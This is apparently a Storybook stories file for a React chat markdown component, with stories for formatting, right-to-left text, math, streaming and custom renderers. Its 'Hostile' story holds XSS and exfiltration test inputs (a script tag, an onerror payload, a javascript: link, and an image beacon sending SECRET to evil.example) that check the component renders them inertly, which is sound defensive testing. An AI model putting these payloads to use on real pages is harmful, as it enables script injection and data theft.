import type { Meta, StoryObj } from '@storybook/react-vite'
import { Chat, PersonaChat } from 'personaflow/components'
import { createMarkdownReader, parseInline, type MarkdownInline } from 'personaflow/markdown'
import 'personaflow/styles.css'
import { useEffect, useState } from 'react'
import { expect, waitFor } from 'storybook/test'
import { flowOf, say, withFlow } from './withFlow.tsx'

/** The gallery of what a reply may be written in. */
const GALLERY = `# A short tour
A paragraph with **bold**, *italic*, ~~struck~~ and \`inline code\`, a [link](https://example.com/docs), a bare one
(https://example.com/a_(b)) and a mail address, ada@example.com.

## Lists
- First
- Second
  1. one
  2. two, with \`code\`
- [x] a task that is done
- [ ] one that isn't

> “A quote, over
> two lines.”

### Code
\`\`\`ts
// The sum of a list.
export function sum(values: readonly number[]): number {
  return values.reduce((total, value) => total + value, 0)
}
\`\`\`

| Persona | Works as | Since |
| :------ | :------: | ----: |
| Ada | tutor | 1843 |
| Bo | **cook** | 2019 |

---

![A chart](https://images.example/chart.png)

עברית, and English again; the direction is each block's own.`

const meta: Meta<typeof Chat.Markdown> = {
  title: 'Components/Chat.Markdown',
  tags: ['autodocs'],
  component: Chat.Markdown,
  args: { text: GALLERY },
  decorators: [
    (Story) => (
      <div data-pf="chat-root" style={{ padding: 24, maxWidth: 720, blockSize: 'auto' }}>
        <Story />
      </div>
    ),
  ],
}
export default meta

type Story = StoryObj<typeof meta>

export const Gallery: Story = {
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('link', { name: 'link example.com' })).toHaveAttribute(
      'rel',
      'noopener noreferrer nofollow',
    )
    await waitFor(() => expect(document.querySelector('[data-token="keyword"]')).toHaveTextContent('export'))
    await expect(document.querySelector('img')).toBeNull()
  },
}

export const RightToLeft: Story = {
  args: {
    text: '# שלום\nזה **מודגש** ויש גם `code`.\n\n- ראשון\n- שני\n\n| שם | עיר |\n|---|---|\n| עדה | לונדון |\n\n> ציטוט',
  },
  decorators: [(Story) => <div dir="rtl">{Story()}</div>],
}

const FORMULAS = String.raw`A ticket is $5, two are $10. Let $a \neq 0$: then \(ax^2 + bx + c = 0\) has the solutions

$$
x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}
$$

1. A system of equations:
   \[
   \begin{cases} 2x + y = 5 \\ x - y = 1 \end{cases}
   \]
2. A matrix, $\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$, and a sum, $\sum_{i=1}^{n} i = \frac{n(n+1)}{2}$.

| Name | Formula |
| --- | --- |
| Euler | $e^{i\pi} + 1 = 0$ |

> A long one scrolls by itself: $$\int_0^1 \left( a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 + a_{10} x^{10} \right) dx$$

A broken one shows as it is written: $\frac{1}{$`

/** Formulas are MathML, which loads with the first of them; money is none. */
export const Formulas: Story = {
  args: { text: FORMULAS },
  play: async ({ canvas, canvasElement }) => {
    await waitFor(() => expect(canvasElement.querySelectorAll('math')).toHaveLength(8))
    await expect(canvas.getByText(/^A ticket is \$5, two are \$10\./)).toBeVisible()
    await expect(canvas.getByText('$\\frac{1}{$')).toBeVisible()
    // A selection copies the source.
    getSelection()!.selectAllChildren(canvasElement.querySelector('p')!)
    const clipboardData = new DataTransfer()
    canvasElement
      .querySelector('p')!
      .dispatchEvent(new ClipboardEvent('copy', { clipboardData, bubbles: true, cancelable: true }))
    await expect(clipboardData.getData('text/plain').trim()).toBe(
      'A ticket is $5, two are $10. Let $a \\neq 0$: then \\(ax^2 + bx + c = 0\\) has the solutions',
    )
    getSelection()!.removeAllRanges()
    const formula = canvasElement.querySelector('math')!.getBoundingClientRect()
    await expect(formula.height).toBeGreaterThan(8)
  },
}

/** A formula that arrives shows as it is written until it is whole. */
export const FormulasStreaming: Story = {
  args: { text: FORMULAS.split('\n\n1.')[0]! },
  render: (args) => <Arriving {...args} />,
  play: async ({ canvasElement }) => {
    await waitFor(() => expect(canvasElement.querySelectorAll('math')).toHaveLength(3), { timeout: 5000 })
  },
}

/** Each line of comma-separated values as a row: any function that draws the text will do. */
function drawTable({ text }: { text: string }) {
  const [head = [], ...rows] = text.split('\n').map((line) => line.split(','))
  if (head.length < 2) throw new Error('no table')
  return (
    <table style={{ margin: 12 }}>
      <thead>
        <tr>
          {head.map((cell) => (
            <th key={cell}>{cell}</th>
          ))}
        </tr>
      </thead>
      <tbody>
        {rows.map((row) => (
          <tr key={row.join()}>
            {row.map((cell) => (
              <td key={cell} style={{ paddingInlineEnd: 16 }}>
                {cell}
              </td>
            ))}
          </tr>
        ))}
      </tbody>
    </table>
  )
}

const RENDERERS = { csv: drawTable }

/** A block of code drawn by the app, by its language; where that fails, and in other languages, it stays code. */
export const CodeRenderers: Story = {
  args: {
    text: '```csv\nplanet,moons\nEarth,1\nMars,2\n```\n\n```csv\nno table\n```\n\n```py\nplanets = 8\n```',
    codeRenderers: RENDERERS,
  },
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole('columnheader', { name: 'planet' })).toBeVisible()
    await expect(canvas.getByRole('cell', { name: 'Mars' })).toBeVisible()
    await expect(canvas.getByRole('group', { name: 'Code, csv' })).toHaveTextContent('no table')
    await expect(canvas.getByRole('group', { name: 'Code, py' })).toHaveTextContent('planets = 8')
    await expect(canvas.getAllByRole('button', { name: 'Copy code' })).toHaveLength(3)
  },
}

/** What is written to break a page: all of it shows as text. */
export const Hostile: Story = {
  args: {
    text: '<script>alert(1)</script> <img src=x onerror=alert(1)>\n\n[bank.example](https://evil.example) [x](javascript:alert(1)) ![](https://evil.example/?d=SECRET)\n\nabc\u202Edef\u202C and \u{E0061}\u{E0062} tags',
  },
}

/** Deeper than anybody writes: from there on it shows as it is written. */
export const TooDeep: Story = { args: { text: `${'> '.repeat(60)}deep\n\n${'- '.repeat(60)}deeper` } }

function Arriving({ text }: { text: string }) {
  const [length, setLength] = useState(0)
  useEffect(() => {
    const timer = setInterval(() => setLength((now) => Math.min(text.length, now + 4)), 16)
    return () => clearInterval(timer)
  }, [text])
  return <Chat.Markdown text={text.slice(0, length)} isStreaming={length < text.length} />
}

export const Streaming: Story = { render: (args) => <Arriving {...args} /> }

const read = createMarkdownReader()

/** A drawing of an app's own: each block a line, and its emphasis in capitals. */
function Telegram({ text }: { text: string }) {
  const { entries, definitions } = read(text)
  return (
    <pre style={{ whiteSpace: 'pre-wrap' }}>
      {entries.map(({ block }) =>
        block.kind === 'paragraph' ? `${parseInline(block, definitions).map(wordsOf).join('')} STOP\n` : '',
      )}
    </pre>
  )
}

function wordsOf(piece: MarkdownInline): string {
  if (typeof piece === 'string') return piece
  return 'children' in piece ? piece.children.map(wordsOf).join('').toUpperCase() : ''
}

/** Another renderer in one line: here one that stands on `personaflow/markdown`. */
export const AnotherRenderer: Story = {
  loaders: [flowOf({ replies: ['Arrive **Tuesday**.\n\nBring *tea*.'] }, (flow) => say(flow, 'When do you come?'))],
  decorators: [withFlow],
  render: () => (
    <PersonaChat partRenderers={{ text: ({ part }) => part.type === 'text' && <Telegram text={part.text} /> }} />
  ),
  play: async ({ canvas }) => {
    await waitFor(() => expect(canvas.getByText(/Arrive TUESDAY. STOP/)).toHaveTextContent('Bring TEA. STOP'))
  },
}
